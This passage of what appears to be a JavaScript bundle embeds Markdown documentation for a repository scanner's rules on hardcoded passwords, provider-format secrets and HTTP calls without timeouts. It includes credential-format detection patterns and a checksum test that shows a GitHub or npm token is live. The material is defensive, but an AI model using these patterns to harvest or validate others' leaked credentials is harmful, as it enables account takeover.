(`server/a.go`: no constraint; `server/b.go`: no constraint), so the\n> package does not compile (\"Server.Run redeclared in this block\").\n\n## How to suppress\n\nAn inline `// readiness-gate-ignore go-duplicate-declaration: reason`, or a\nconfigured suppression with a reason.\n";

// raw:rules/checks/hardcoded-password.md
var hardcoded_password_default = '# hardcoded-password\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | security | 30 min | `src/checks/hardcoded-password/` |\n\nA string literal assigned or compared to a credential-named identifier or key,\nin code or configuration.\n\n## What is detected\n\n`name <operator> literal`, where the name is a credential\'s and the literal is a\nvalue, in the shapes these languages and formats write it:\n\n| where | examples |\n|---|---|\n| Python | `password = "…"`, `password: str = "…"`, `connect(password="…")`, `{"password": "…"}`, `assert connector.auth_token == "…"` |\n| JavaScript / TypeScript | `const clientSecret = \'…\'`, `apiKey: string = "…"`, `{ dbPassword: "…" }`, `expect(client.apiKey).toBe(\'…\')` |\n| Go | `Password: "…"` (struct fields), `password := "…"` |\n| Java, Kotlin, C# | `String password = "…"`, `static final String API_KEY = "…"`, `ds.setPassword("…")`, `Password = "…"` |\n| PHP, Ruby | `\'password\' => \'…\'`, `$password = \'…\'`, `password: \'…\'`, `@password = \'…\'` |\n| JSON | `"apiKey": "…"` |\n| YAML (compose, Helm values, CI) | `password: S3cretValue` (quoted or not), `- MYSQL_ROOT_PASSWORD=…` |\n| .env, shell, Dockerfile | `DB_PASSWORD=…`, `export REGISTRY_PASS=…`, `ENV POSTGRES_PASSWORD=…` |\n| .properties, .ini/.cfg, TOML, Terraform | `spring.datasource.password=…`, `password = …`, `password = "…"` |\n| connection strings | `"Server=db;User Id=sa;Password=…;"` |\n| HTTP headers | `"Authorization": "Bearer …"` |\n\n**Credential names.** The last word of the name decides (split on `_ - . $ @`\nand camelCase; trailing digits ignored): `password`, `passwd`, `passphrase`,\n`pwd`, `secret`, `token`, `credentials`/`creds`, `apikey`, and `key` after\n`api`, `private`, `secret`, `signing`, `encryption`, `master`, `app`, `auth`,\n`account`, `shared`, `hmac`, `jwt`, `client`… (`secret_access_key`,\n`secret_key_base` too). `pass` counts only after an owner such as `db`,\n`user`, `admin`, `smtp`, `registry` (`DB_PASS`). So `db_password`,\n`DB_PASSWORD`, `dbPassword`, `secretKey`, `auth_token`, `x-api-key` are\ncredential names; `password_reset_url`, `secret_name`, `token_url`,\n`tokenizer`, `PASSWORD_MIN_LENGTH`, `password_field`, `access_key_id`,\n`cache_key` are not.\n\nThe finding points at the value (line and column). The message names the kind\n(password, secret, token, API key, private key, credentials, authorization\nheader) and the name, never the value; the value is registered for redaction in\nevery output and masked in the evidence (`password = "…[redacted]"`).\n\nFiles: code (Python, JS/TS, Go, Java, Kotlin, Scala, Groovy, Ruby, PHP, C#,\nSwift, Rust, Dart, Elixir, Lua, Perl, PowerShell, C/C++, Vue, Svelte…) and\nconfiguration (JSON, YAML, TOML, INI/CFG/CONF, .properties, .env files, shell\nscripts, Dockerfiles, Terraform/HCL, `.npmrc`, `.pypirc`). Tests are included.\n\n## Why it blocks production\n\nA password in the code is the same in every environment, readable by everyone\nwith access to the repository or its history, and cannot be rotated without a\nrelease. When it is the production value it has leaked; when it is a test value\nit tends to become the production value (a default that nobody overrides, a\ncompose file promoted to a server).\n\n## How to fix\n\nRead the value at run time: `os.environ["DB_PASSWORD"]`, `process.env.API_KEY`,\n`System.getenv("DB_PASSWORD")`, `${DB_PASSWORD}` in compose and Spring\nproperties, `${{ secrets.DB_PASSWORD }}` in workflows, a Kubernetes Secret, or a\nsecret manager (Vault, AWS Secrets Manager, GCP Secret Manager, Azure Key\nVault). If the value was ever real, rotate it: it stays in the Git history\n(purge it with `git filter-repo` if the repository is shared). Tests can\ngenerate a value, or take one from a fixture that is plainly not a credential.\n\n## One value, one finding\n\nThe same value written in several places (the same fixture password in\nfifteen test files, one key copied into two `.env` files) is one finding: it\nis one value to replace or one credential to revoke. The finding sits at the\nfirst place in report order; the others are its related locations (JSON\n`related`, SARIF `relatedLocations`, up to 100), and its message ends with\n"(The same value is written in N more places.)". Places of different\nseverity (a runtime file and a test), and places a suppression\nmay cover, stay separate findings: suppressing one place never hides another.\n\n## Not detected (near-misses)\n\n- Anything that is not a literal: environment look-ups\n  (`password = os.environ["DB_PASSWORD"]`, `os.getenv(...)`, `process.env.X`,\n  `System.getenv(...)`), function calls (`password = get_password()`),\n  concatenations and templates (`"a-" + b`, `f"{a}"`, `"{}".format(x)`).\n- Empty strings and values shorter than 6 characters.\n- Values inside a GitHub workflow job\'s `services:` block\n  (`POSTGRES_PASSWORD` of a `postgres` service container): the container is\n  started for the job and thrown away, so its password opens nothing that\n  outlives the job. The same block in a compose file is a deployment and is\n  reported; a password in the job\'s own `env:` is reported too.\n- HTTP header names (`headerLicenseKey = "X-Convoy-License-Key"`), placeholders\n  that ask to be replaced (`change_this_to_something_unique`, also when a\n  script compares with one to refuse it), and names that are an operation on\n  a credential rather than one (`changePassword`, `resetToken`,\n  `requirePassword`: a handler, a flag or a feature), what `typeof` answers\n  (`typeof apiKey === \'function\'`), and a Rails route\'s `controller#action`.\n- Values that name an environment variable (`API_KEY_ENV = "ZERODB_API_KEY"`).\n- References: `${{ secrets.X }}`, `${VAR}`, `$VAR`, `${VAR:default}`,\n  `{{ .Values.x }}`, `%(x)s`, `<password>`, Ansible `!vault`, `ENC(...)`,\n  `vault:`, `op://`, AWS/GCP secret ARNs and paths, file paths\n  (`/run/secrets/db_password`, `keys/service.pem`), Symfony\'s\n  `%env(APP_SECRET)%` (with processors: `%env(resolve:DB_URL)%`) and a value\n  that is one container parameter (`%kernel.secret%`); percent signs inside\n  a longer value (`pa%ss%w0rd`) are still a value.\n- Labels: values with spaces (`"password": "Enter your password"`), a\n  Titlecase word (`"Passwort"`), the name itself (`"password": "Password"`),\n  and translation catalogues (`locales/`, `i18n/`, `lang/`, `translations/`).\n- Placeholders: `changeme` (decided: a placeholder here and in\n  hardcoded-secret), `xxxxxx`, `********`, `your-password-here`,\n  `my_api_key`, `(whatever)`; schema words (`string`, `required`,\n  `securestring`), fetch\'s `credentials: \'include\'`, a negative test\'s\n  `"incorrect"`, sample values (`thisisasamplesecret`), provider sandbox\n  tokens (`access-sandbox-<uuid>`).\n- Sample contexts: values inside a collection named for samples or values to\n  refuse (`PLACEHOLDER_SECRETS = {...}`, `COMMON_PASSWORDS = [...]`; not\n  `DEFAULTS`), under a YAML `example:`/`examples:` key (OpenAPI), and Helm\n  `<x>SecretKey: "key-name"` beside `<x>SecretName:` (the key of a Secret).\n- YAML text that is not a mapping: `name:value` without a space\n  (`PUBLIC_KEY=signing-key:public_key` in a block scalar is a store path).\n- Type annotations and declarations: `password: str`, `password: string;`,\n  `apiKey?: string`, TypeScript unions of literals.\n- Validation rules of a password field joined by `|`, one of them a rule name\n  (Laravel\'s `\'password\' => \'required|string|min:16|confirmed\'`); words joined\n  by `|` with no rule name among them (`\'correct|horse|battery\'`) stay a value.\n- Hashes of a password (`$2b$12$…`, `pbkdf2_sha256$…`) and names ending in\n  `hash` (`passwordHash`): a hash is not the password.\n- Names whose last word is `token` but that are not credentials (parser and\n  tokenizer tokens, pagination and CSRF tokens); for other `token` names the\n  value must mix letters and digits (12+ characters for a bare `token`).\n- Commented-out lines and documentation examples in comments; prose files\n  (Markdown, reStructuredText); lockfiles; minified files; readiness-gate\'s\n  own reports (`readiness-report.json`, `*.sarif`).\n- A provider-format token (`ghp_…`, `AKIA…`, `sk_live_…`): that is\n  [`hardcoded-secret`](hardcoded-secret.md)\'s P0 finding, never reported twice.\n- A provider\'s own documented example value (`allow` in `rules/secrets.yml`:\n  `AKIAIOSFODNN7EXAMPLE`, the bot token of Slack\'s `oauth.v2.access` example\n  response): public text, no credential.\n- Credentials in connection URLs: `hardcoded-secret` reports them.\n- XML (`<password>…</password>`) and `netrc`\'s space-separated form.\n\n## Example finding\n\n```json\n{\n  "ruleId": "hardcoded-password",\n  "severity": "P1",\n  "area": "security",\n  "message": "Hardcoded token in tests/test_connector.py: auth_token is compared with a string literal; the value is redacted.",\n  "location": { "path": "tests/test_connector.py", "line": 2, "column": 37 },\n  "evidence": "assert connector.auth_token == \\"…[redacted]\\""\n}\n```\n\n## How to suppress\n\nFor a value that is not a credential (a unit test\'s throwaway value), inline on\nthe line or the line above, with a reason:\n\n```python\n# readiness-gate-ignore hardcoded-password: throwaway value of the login form test\n```\n\nor by path in `.github/readiness-gate.yml`:\n\n```yaml\nsuppressions:\n  - rule: hardcoded-password\n    path: tests/fixtures/**\n    reason: "fixture credentials of the local test database, never deployed"\n```\n\nTo make the rule a blocker, raise its severity: `rules: { hardcoded-password: P0 }`.\n';

// raw:rules/checks/hardcoded-secret.md
var hardcoded_secret_default = '# hardcoded-secret\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** (runtime code, configuration, deploy files, or proven live) / P1 (tests, vendored code, files only a development stack uses) / P2 (docs, examples) | security | 30 min | `src/checks/hardcoded-secret/` (patterns: `rules/secrets.yml`; proof: `src/analysis/secrets/live.ts`, `public.ts`) |\n\nA credential in a provider\'s own format, committed in any scanned text file:\ncode, configuration, documentation, scripts, notebooks, and tests too.\n\n## When it is proven\n\nA finding is `proven` (the JSON report\'s `certainty`) when the value is in a provider\'s\nown format (a pattern below matched) and is neither a documented example nor a\nplaceholder (see "Not detected"). What severity it earns then depends on where\nit is and whether the text itself proves the credential live:\n\n- **P0 in runtime code, configuration and deploy files** (message `secret`),\n  as the repository map classes the file.\n- **P0 anywhere, tests and docs included** (message `secretLive`, listed in the\n  rule\'s `anyClass`), when the credential is **proven live** by its own text;\n  the message says which proof:\n  - *its checksum verifies*: a GitHub `ghp_`, `gho_`, `ghu_`, `ghs_`, `ghr_`\n    or npm `npm_` token whose last 6 characters are the CRC-32 (IEEE, zlib\'s)\n    of the characters between the prefix and them, in base62 over `0-9A-Za-z`,\n    left-padded with `0` (GitHub\'s "Behind GitHub\'s new authentication token\n    formats", 2021; npm uses the same scheme). A made-up fixture of the right\n    shape fails it (one chance in 62⁶ to pass). Fine-grained tokens\n    (`github_pat_`) carry no documented checksum, so they are never proven\n    live this way: they are plain `secret` findings.\n  - *a live-mode key*: Stripe `sk_live_` / `rk_live_` (`sk_test_` is not\n    reported at all).\n  - *with its secret key beside it*: an AWS access key ID and an AWS secret\n    access key within 5 lines of each other in the same file (both findings).\n    An ID alone, or a secret key alone, is a plain `secret` finding.\n- **Where the file lives** (scope `credential`): **at most P1** in test code, test data, fixtures and CI-only service\n  containers, and in vendored third-party code; **at most P2** in\n  documentation and examples, samples and demos — the class comes from the\n  repository map (ecosystem configuration first, folder names last), never from\n  a list of this rule\'s own.\n- **Likely, so at most P1** (reported with the gap *"a Firebase client key is\n  public by design; restrict it in the console"*): a Google API key in a\n  Firebase client configuration — `google-services.json` (`current_key`),\n  `GoogleService-Info.plist` (`API_KEY`), a web configuration\'s `apiKey`\n  beside `authDomain`/`messagingSenderId`/`firebaseConfig`/`initializeApp`, or a\n  `FIREBASE_API_KEY`-named variable. These keys ship in every build of the app;\n  the console\'s key restrictions and the security rules protect the project.\n- **Likely, so at most P1** (gap *"Google also issues this key format as a\n  public client key …"*): any other Google API key. Google issues the same\n  `AIza` format for server use and for browsers, Maps JavaScript, YouTube and\n  Firebase clients, where it is public and protected by its restrictions; nor\n  does the format say whose key it is (a scraper carries the public web-client\n  key of the site it reads). **Proven** only when the code around it (600\n  characters either side) uses an API that takes server keys only: Gemini and\n  the Generative Language API (`generativelanguage.googleapis.com`,\n  `google.generativeai`, `@google/generative-ai`, `@google/genai`,\n  `GoogleGenerativeAI`, `genai.configure`, `GEMINI_API_KEY`).\n- **Likely, so at most P1**, when the code itself says the value is not a real\n  credential: the name it is assigned to on its line calls it fake, dummy,\n  mock, test, example or sample as a word of the name (`TEST_FAKE_RSA_KEY_0`,\n  `dummyToken`; not `latest` or `contest`), or a private key\'s file is named\n  for localhost or a self-signed certificate (`localhost.pem`,\n  `snakeoil.key`). A name can lie, so such a finding is never silenced: it\n  stays in the report as P1 with the gap named. A credential proven live\n  (above) stays P0 whatever its name.\n- **Likely, so at most P1**, in a file that only a development or test\n  stack uses (gap: *"only `configs/local/docker-compose.yml`, a development or\n  test stack, uses this file; no image that ships copies it"*): the repository\n  map gives class `tooling`, with the stack named, to what a compose file under\n  `.devcontainer/`, `local/` or `dev/`, or named `docker-compose.dev.yml`,\n  `compose.local.yaml` or `docker-compose.test.yml`, mounts (`volumes:` bind\n  sources, `env_file:`, `configs:`/`secrets:` `file:`), and to a\n  devcontainer.json\'s bind `mounts`: a development CA\'s keys beside the local\n  compose file. Not when anything that ships uses the file: an image that ships\n  COPYs or ADDs it or a folder above it (`COPY . .` in any stage it builds\n  from included), a production compose file mounts it, or it lies in a Helm\n  chart or kustomization folder: then it stays P0. Tooling as such has no cap:\n  a key in a deploy script or a workflow stays P0, and a credential proven live\n  stays P0 in a stack\'s file too.\n- The same holds for **the stack\'s own compose file**: a key written in\n  `docker-compose.dev.yml` is the development stack\'s. A compose file without\n  such a marker (the root `docker-compose.yml`) is the deployment, unless the\n  repository deploys with something else: where a Helm chart or a\n  kustomization deploys it, the plain compose file is likely a local stack\n  (gap: *"docker-compose.yml: likely a local stack (the repository deploys\n  with the Helm chart charts/app); no image that ships uses this file"*), and\n  so are the files only it mounts. Their class does not change (the compose\n  file may still be deployed as written, and the other rules read it so): the\n  guess only names the stack here. With nothing else that deploys, it stays\n  P0.\n- **Likely, so at most P1**, for a private key whose public half only a\n  development or test stack uses (gap: *"its public half is in\n  `docker/sftp/ssh/id_rsa.pub`, which only `docker-compose.yml`, a development\n  or test stack, uses: that stack\'s key pair"*): the public half is read from the\n  key itself (an unencrypted OpenSSH key carries it; a PEM RSA, EC or Ed25519\n  key gives it), and found as an SSH public key line (`ssh-ed25519 AAAA…`) in\n  any file: an SFTP emulator\'s `PublicKeys`, a `.pub` a local compose file\n  mounts as an authorised key. Every file that holds it must be a stack\'s (the\n  pair\'s own `.pub` beside it counts only when a stack uses it); held by any\n  other file, test code included (a pull request adds tests freely), or by\n  none, the key stays as its class says.\n- **Likely, so at most P1**, in configuration that a framework loads only in a\n  development or test environment, by the framework\'s own naming: Spring\'s\n  `application-dev.yaml` and `bootstrap-local.properties`, ASP.NET Core\'s\n  `appsettings.Development.json`, Rails\' `config/environments/test.rb`, and\n  dotenv\'s `.env.development`, and a Django settings module named for one\n  (`settings/test.py`, `local_settings.py`: Django reads the module\n  `DJANGO_SETTINGS_MODULE` names, and a test runner names this one)\n  (environments `dev`, `development`, `local`, `test`, `ci`, `e2e` and the\n  like; gap: *"Spring loads this file only under the `dev` profile, a\n  development or test profile"*). A deployment could\n  switch that environment on, so the finding stays. The default and other\n  environments\' files (`application.yaml`, `application-prod.yaml`,\n  `.env.production`) stay P0.\n- **Likely, so at most P1**, in a Python string statement: a docstring, or a\n  bare string on a line of its own, which Python evaluates and discards (gap:\n  *"the value is in a string statement (a docstring) that the program\n  evaluates and discards: documentation"*), such as a docstring showing what a\n  presigned URL looks like. Read from the tokens; an assigned, passed or\n  concatenated string stays as it is.\n- **Likely, so at most P1**, in a key file (`.key`, `.pem`, `.p8`, `.der`,\n  `.asc`, `.gpg`, `.pgp`) that only test code names (gap: *"only test code\n  names this file (backend/cmd/headlamp_test.go)"*): code reads a key file by\n  its name, so when the only files that write its basename are tests, it is\n  test data, whatever its folder is called (headlamp\'s\n  `backend/cmd/headlamp_testdata/headlamp.key`). A list that names files in\n  order not to read them (`.gitleaksignore`, `.secrets.baseline`,\n  `.gitignore`, `.dockerignore`...) is no namer. Named by runtime code too, by\n  a file of another class (a deploy script, docs), or by nothing, it stays as\n  its class says: a deploy key nothing names is still P0.\n\n## What is detected\n\nEvery pattern of [`rules/secrets.yml`](../secrets.yml), each with samples that\nmust and must not match (the tests run all of them):\n\n| pattern id | what |\n|---|---|\n| `aws-access-key-id` | AWS access key IDs (`AKIA`, `ASIA`, `ABIA`, `ACCA` + 16 base32 characters) |\n| `aws-secret-access-key` | AWS secret access keys (40 base64 characters), only next to an AWS name: `aws_secret_access_key = …`, `AWS_SECRET_ACCESS_KEY=…`, `"SecretAccessKey": "…"` |\n| `github-pat-classic`, `github-fine-grained-pat`, `github-oauth-token`, `github-app-token`, `github-refresh-token` | GitHub tokens: `ghp_`, `github_pat_`, `gho_`, `ghu_`/`ghs_`, `ghr_` |\n| `gitlab-token` | GitLab personal, project, deploy and runner tokens (`glpat-`, `glptt-`, `gldt-`, `glrt-`) |\n| `slack-bot-token`, `slack-user-token`, `slack-legacy-token`, `slack-app-token`, `slack-webhook-url` | Slack tokens (`xoxb-`, `xoxp-`/`xoxe-`, `xoxa-`/`xoxr-`, `xapp-`) and incoming-webhook URLs (`hooks.slack.com/services/T…/B…/…`) |\n| `stripe-live-key` | Stripe live secret and restricted keys (`sk_live_`, `rk_live_`) |\n| `google-api-key`, `google-oauth-client-secret` | Google API keys (`AIza` + 35) and OAuth client secrets (`GOCSPX-`) |\n| `openai-project-key`, `openai-api-key` | OpenAI keys (`sk-proj-`, `sk-svcacct-`, `sk-admin-`, and `sk-` keys carrying OpenAI\'s fixed marker) |\n| `anthropic-api-key` | Anthropic API and admin keys (`sk-ant-api03-`, `sk-ant-admin01-`) |\n| `npm-access-token` | npm access tokens (`npm_` + 36) |\n| `pypi-upload-token` | PyPI and TestPyPI upload tokens (`pypi-` + the fixed macaroon header) |\n| `twilio-api-key`, `twilio-auth-token` | Twilio API keys (`SK` + 32 hex) and auth tokens (32 hex next to a `TWILIO…AUTH…` name) |\n| `sendgrid-api-key` | SendGrid API keys (`SG.` + 22 + `.` + 43) |\n| `azure-storage-account-key` | Azure storage account keys in connection strings (`AccountKey=` + 88 base64 characters) |\n| `private-key` | Private key blocks (PEM `BEGIN … PRIVATE KEY`: RSA, EC, DSA, OpenSSH, PKCS#8, encrypted PKCS#8, PGP), also inside a JSON or code string with `\\n` escapes |\n| `private-key-base64` | A private key block base64-encoded (`LS0tLS1CRUdJTi…`, `-----BEGIN` encoded): a Kubernetes Secret\'s `data: { tls.key: … }`, a Helm value, an environment variable. The value is decoded (up to 64 KiB) and judged as the block: a key body of a key\'s shape is reported, with the whole base64 value redacted; a certificate, a public key, a header alone or a body that is no key is not |\n| `connection-url-password` | The password of a connection URL: `postgres://user:password@host`, and `postgresql`, `mysql`, `mariadb`, `mongodb(+srv)`, `redis(s)`, `amqp(s)`, `mssql`, `sqlserver`, `clickhouse`, `cockroachdb`, `couchdb`, `neo4j`, `bolt`, `ldap(s)`, `(s)ftp`, `smtp(s)` |\n\n**A connection URL\'s password is read whole**: it runs to the user-info\'s\n*last* `@` that a host follows, before the URL ends (white space, or the quote\nthat opened it unless escaped), never past another `://` or a query parameter\n(`?user=a@b`). So a password holding `@ : / # ?` or quotes\n(`P@ssword!@#$%^&*()`) is masked entirely, and `\\@` (a Makefile\'s escape) counts\nas the `@`: `postgresql://teable:teable\\@127.0.0.1` is the user name again, a\nlocal default, and is not reported. A URL built by concatenation\n(`"mysql://root:" + pw + "@db"`) has no password of its own.\n\nThe finding points at the value itself (path, line, column); a private key is\nreported once, at its `BEGIN` line. The message names the kind of credential and\nthe pattern; it never contains the value.\n\n**Redaction.** Every value found is registered with the run, and every output\n(job summary, annotations, SARIF, JSON report, SBOM, logs) is scrubbed of it. The\nsame patterns also run over everything else the outputs copy (test names and failure\nmessages, build-log lines, parse-error code frames, SBOM fields, file names), and a\nURL\'s password is masked whole (up to the last `@`, whatever the scheme, percent-encoded\nin a purl too): values are redacted in the run\'s data before any escaping, then each\nrendered output is checked again (`src/report/redact.ts`). The\nevidence is the line with the value replaced: a provider\'s fixed prefix may stay\nvisible (`ghp_…[redacted]`, `AKIA…[redacted]`), the rest never does. The\nfingerprint is the pattern and a hash of the value, so it survives edits that\nmove the line and never carries the value.\n\n**Every tracked text file.** This rule reads files that the other rules skip:\ngenerated and vendored ones (`dist/`, `vendor/`, `node_modules/`, `*.min.js`,\n`*.map`, the configured `paths.generated`), files over `limits.max-file-size`\n(streamed in 4 MiB chunks of whole lines that overlap by at least 512 KiB, so\nmemory stays bounded and a block that starts in one chunk is read whole; a\nfinding from the overlap is reported once), and files that look binary (NUL\nbytes, bytes that are not UTF-8, read as Latin-1). Whether a file "looks\nbinary" is its author\'s choice (a NUL or a few control characters in a comment\nleave a JavaScript file working), so no content test decides what is read; the\npatterns are specific enough that images and archives do not match them. The other rules\' skipped counts are unchanged; the job summary says\nhow many skipped files this rule still read.\n\n**Speed.** Each file is read once. One pass over it looks for the patterns\'\nkeywords (lowercase literals such as `ghp_`, `akia`, `-----begin`,\ncase-insensitively); only the patterns whose keywords occur run their regex. A\nkeyword without letters (`://` for connection URLs) is found with a plain\nsubstring search, and its pattern runs only on the lines that hold it.\nThe regexes stay within the syntax that JavaScript and ripgrep share, so the\nbenchmark can run the same catalogue in ripgrep as a reference.\n\n## Why it blocks production\n\nA credential in a repository is readable by everyone who can read the\nrepository, its forks, its clones, its CI logs and its history, for as long\nas the history exists. Attackers scan public pushes for these formats within\nminutes; private repositories leak through laptops, contractors, CI caches and\nbackups. A key that reached a commit must be treated as known to others.\n\n## How to fix\n\n1. **Revoke or rotate the credential with its provider now** (AWS IAM, GitHub\n   settings or the app\'s installation, GitLab, Slack app settings, Stripe\n   dashboard, Google Cloud console, OpenAI/Anthropic console, npm/PyPI token\n   pages, Twilio, SendGrid, the Azure storage account\'s access keys, the\n   database user\'s password). Deleting the line does not un-leak it.\n2. **Load the new value at run time** from a secret store or the environment:\n   GitHub Actions secrets (`${{ secrets.X }}`), a Kubernetes Secret, Vault, AWS\n   Secrets Manager / SSM, GCP Secret Manager, Azure Key Vault. In code read the\n   environment (`os.environ["DB_PASSWORD"]`, `process.env.API_KEY`); in a\n   connection URL use a reference (`postgres://app:${DB_PASSWORD}@db/app`).\n3. **Purge the old value from the history** if the repository is shared\n   (`git filter-repo --replace-text`, BFG), and force-push with the team\'s\n   agreement; rotating is still required, since clones keep the old history.\n4. For test fixtures, generate token-shaped values at test time (as this\n   repository\'s own tests do), or use the providers\' documented example values.\n\n- **Likely, so at most P1**, when a connection URL\'s server is a throwaway\n  one: its host is the local machine (`localhost`, `127.x.x.x`, `::1`,\n  `0.0.0.0`, `host.docker.internal`), or, in a GitHub workflow, a service\n  container of a job of that workflow (`services: { postgres: … }` and\n  `postgres://app:…@postgres:5432`), or, in a compose file, a service of that\n  same file (by its name, `container_name`, `hostname` or network alias) that\n  publishes no port (`ports:`; `expose:` stays on the stack\'s network): the\n  stack\'s own server, as a self-host stack\'s Postgres or Redis with its default\n  password (gap: *"the URL\'s server is `redis`, a service this compose file\n  creates, publishing no port: the stack\'s own server, reachable only on its\n  network"*). The gap names the host. A password may be reused elsewhere, so\n  the finding stays; a real host (`db.internal`), or a compose server that\n  publishes its port, keeps the rules above.\n- **Likely, so at most P1**, for a secret detector\'s own test sample: a JS/TS\n  file whose regular-expression literal finds the value (in the value, or in\n  the string that holds it, as `\'const k = rk_live_…\'`), or writes out its\n  first ten characters (a negative sample the pattern rejects), as a secret\n  scanner\'s rule files do (`/(?:r|s)k_live_[0-9a-zA-Z]{24}/` above a table of\n  `{ input: \'sk_live_…\', expected: true }`). This holds for a format proven live\n  too: a checksum that verifies is what such a sample is built to have. The\n  patterns are the pull request\'s, so they run in RE2 (linear time); a pattern\n  RE2 cannot run, or one that matches ordinary text (`/[0-9a-zA-Z_]{8,}/`),\n  names no format and changes nothing.\n\n## One value, one finding\n\nThe same value written in several places (the same fixture password in\nfifteen test files, one key copied into two `.env` files) is one finding: it\nis one value to replace or one credential to revoke. The finding sits at the\nfirst place in report order; the others are its related locations (JSON\n`related`, SARIF `relatedLocations`, up to 100), and its message ends with\n"(The same value is written in N more places.)". Places of different\nseverity (a runtime file and a test), and places a suppression\nmay cover, stay separate findings: suppressing one place never hides another.\n\n## Not detected (near-misses)\n\n- Documented example keys: the AWS documentation\'s example key ID\n  (`AKIAIOSFODNN7EXAMPLE`) and secret key, any value containing `EXAMPLE`,\n  the Azure storage emulator\'s published account key, and the bot token of\n  Slack\'s `oauth.v2.access` example response (`xoxb-17653672481-…`), which\n  test fixtures copy. A provider\'s own documented example value is no\n  credential; the list is `allow` in `rules/secrets.yml`, with each value\'s source. So is such\n  an example with its end edited (the same length, its first 60% and at least 12 characters kept:\n  `AKIAIOSFODNN7EXAM…` with the last letters changed, as test data writes the pair).\n- Placeholders: `xxxx`, `****`, `...`, `…`, `<token>`, `${VAR}`, `$VAR`,\n  `{{ var }}`, `%s`, `%(name)s`, `changeme`, `password`, `your-token-here`;\n  runs of one character, ascending runs (`1234567890abcdef…`), and values with\n  far too little variety for a generated credential.\n- Public material: public keys (`BEGIN PUBLIC KEY`, `ssh-ed25519 AAAA…`),\n  certificates, PEM headers alone (a parser\'s constants), private key blocks\n  whose body is elided (`...`) or made up, and a `PRIVATE KEY` block whose\n  body decodes to no key: a key is a DER SEQUENCE held whole by the body that\n  opens with its version (PKCS#1, SEC1, DSA, PKCS#8; an encrypted PKCS#8 key\n  with its algorithm), an OpenSSH key starts `openssh-key-v1`, a PGP block with\n  a packet tag. A certificate\'s body pasted as a form\'s placeholder, or a key\n  cut off after two lines, is neither. Such a body is still redacted. This holds\n  only for a body read up to its `-----END` line (JSON\'s `\\/` is read as `/`); a\n  body the reader cannot follow that far stays a finding, **likely** (P1), with\n  the gap "the key body could not be read to its END line".\n- Test-mode keys that grant nothing in production (Stripe `sk_test_`).\n- Connection URLs whose password is a reference (`${DB_PASSWORD}`,\n  `$PASSWORD`, `{{ db_password }}`, `{password}`), a placeholder (`user:pass@`,\n  `username:password@`, `:changeme@`, `:****@`, `:...@`, `<password>`, an upper-case slot that names what goes there, such as `:STRONG_DB_PASSWORD@`; not an upper-case value such as `X7K2-M9QP-4TZA`), the\n  user name again (`postgres:postgres@`, `guest:guest@`, local defaults) or the user name and a word\n  for a password (`boardsuser:boardsuser-password@`, `app:app_pass@`), the\n  `scott:tiger` demo account, or whose host is a documentation placeholder\n  (`host`, `hostname`, `example.com`).\n- Generic high-entropy strings without a provider format (hashes, UUIDs,\n  checksums, `integrity` fields): a password assigned to a credential name is\n  [`hardcoded-password`](hardcoded-password.md)\'s business.\n- A Twilio account SID (`AC…`) alone: it is an identifier, not a secret.\n\n## Example finding\n\n```json\n{\n  "ruleId": "hardcoded-secret",\n  "severity": "P0",\n  "area": "security",\n  "certainty": "proven",\n  "messageId": "secret",\n  "message": "Hardcoded credential in src/config.py: GitHub personal access token (classic) (pattern github-pat-classic); the value is redacted.",\n  "location": { "path": "src/config.py", "line": 3, "column": 17 },\n  "evidence": "GITHUB_TOKEN = \\"ghp_…[redacted]\\""\n}\n```\n\nThe same token in `tests/test_client.py` is P1 ("in test code or test data"),\nunless its checksum verifies: then it is `secretLive`, P0, with the message\n"…: GitHub personal access token (classic) (pattern github-pat-classic), proven\nlive: its checksum verifies; the value is redacted."\n\n## How to suppress\n\nOnly for values that are not credentials (a revoked test token, a fixture of a\nsecret scanner); never for a live credential: rotate it instead. Inline, on\nthe line or the line above, with a reason:\n\n```python\n# readiness-gate-ignore hardcoded-secret: revoked token, fixture of the redaction tests\n```\n\nor by path in `.github/readiness-gate.yml`:\n\n```yaml\nsuppressions:\n  - rule: hardcoded-secret\n    path: test/fixtures/keys/**\n    reason: "throwaway keys generated for the TLS tests, never deployed"\n    expires: 2027-06-30\n```\n\n## Adding patterns\n\nThe `rules` input names a directory whose `secrets.yml`, in the same format as\nthe built-in one, adds patterns (new ids only). Each pattern has `id`,\n`description`, `regex` (capture group 1 is the value), `keywords` (lowercase\nliterals, at least one of which every match contains), `allow` (exact values\nnever reported) and, for the built-in catalogue, `samples` with `match` and\n`nomatch` templates. Keep regexes free of lookaround, backreferences and inline\nflags.\n';

// raw:rules/checks/http-call-without-timeout.md
var http_call_without_timeout_default = "# http-call-without-timeout\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | observability | 15 min | `src/checks/http-call-without-timeout/` |\n\nAn outbound HTTP call that can wait for ever. **A heuristic**: it reads the call,\nnot the configuration the call may receive at run time; the message says so.\n\n## What is detected\n\nCalls read from each Python file's syntax tree (tree-sitter), resolved through\nthe file's imports (`import requests as rq`, `from requests import post`):\n\n| call | reported when | why |\n|---|---|---|\n| `requests.get/post/put/patch/delete/head/options/request` | no `timeout=`, or `timeout=None` | requests has no default: it waits for ever |\n| `urllib.request.urlopen` | no `timeout` (keyword or third argument) | falls back to the socket default, none |\n| `httpx.get/...`, `httpx.Client`, `httpx.AsyncClient` | `timeout=None` | disables httpx's 5-second default |\n| `aiohttp.ClientSession()` | no `timeout=`, or `timeout=None` | the default allows 5 minutes in total and no read limit |\n\n```python\nrequests.get(url)                                   # P1\nrequests.get(url, timeout=(3.05, 10))               # fine\naiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=10))  # fine\n```\n\n## Why it matters\n\nA dependency that accepts the connection and never answers holds the calling\nworker; under load every worker ends up waiting and the service stops answering\nits own health checks.\n\n## How to fix\n\nPass an explicit timeout, ideally from one setting shared by every client.\n\n## Not detected (near-misses)\n\n| code | why it is not a finding |\n|---|---|\n| `requests.get(url, **kwargs)` | the timeout may be in `kwargs` |\n| `session.get(url)` on a session created with `timeout=` | the session default applies |\n| `httpx.get(url)`, `httpx.Client()` | httpx defaults to 5 seconds |\n| calls in tests, scripts, docs and examples | not runtime code |\n| `other.get(url)` where `other` is not an imported HTTP module | not an HTTP client this rule knows |\n\nNot detected: methods of a `requests.Session` (it has no session-wide timeout;\nthe calls on it are not followed), JavaScript `fetch` and axios (no timeout by\ndefault either).\n\n## Example finding\n\n> **P1 http-call-without-timeout** `app/client.py:4`\n> `rq.get(...)` is an outbound HTTP call with 